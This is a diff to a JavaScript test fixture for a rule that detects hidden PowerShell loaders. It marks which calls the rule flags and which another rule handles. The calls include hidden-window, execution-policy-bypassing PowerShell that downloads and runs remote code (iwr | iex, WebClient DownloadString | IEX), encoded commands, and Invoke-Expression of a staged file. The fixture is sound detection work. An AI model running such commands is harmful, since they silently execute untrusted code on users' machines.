@@ -1,20 +1,23 @@
 // Fixture for generic-hidden-powershell-loader.
-// RULEID: hidden -EncodedCommand of an interpolated script; -w hidden with iwr | iex; python-style
-// concatenation into -enc; -WindowStyle Hidden with a WebClient DownloadString.
+// RULEID: hidden -EncodedCommand of an interpolated script; python-style concatenation into -enc;
+// a hidden window running IEX of a variable.
 // OK: a visible -EncodedCommand of a variable; a hidden window running a fixed literal command;
-// powershell Get-Clipboard.
+// powershell Get-Clipboard; hidden launches that name a download cmdlet (iwr | iex, WebClient):
+// generic-hidden-powershell-download reports those, once.
 const { exec, spawn } = require("child_process");
 
-function run(script, url, enc) {
+function run(script, url, enc, stagePath) {
   const encoded = Buffer.from(script, "utf16le").toString("base64");
   // ruleid: generic-hidden-powershell-loader
   exec(`powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encoded}`, { windowsHide: true });
-  // ruleid: generic-hidden-powershell-loader
+  // ok: generic-hidden-powershell-loader
   exec(`powershell.exe -w hidden -c "iwr ${url} -UseBasicParsing | iex"`);
   // ruleid: generic-hidden-powershell-loader
   exec("powershell -nop -w hidden -enc " + enc);
-  // ruleid: generic-hidden-powershell-loader
+  // ok: generic-hidden-powershell-loader
   spawn("cmd", ["/c", "powershell -WindowStyle Hidden -Command \"(New-Object Net.WebClient).DownloadString('" + url + "') | IEX\""]);
+  // ruleid: generic-hidden-powershell-loader
+  exec(`powershell -w hidden -c "Invoke-Expression (Get-Content ${stagePath} -Raw)"`);
 }
 
 function visible(encoded) {
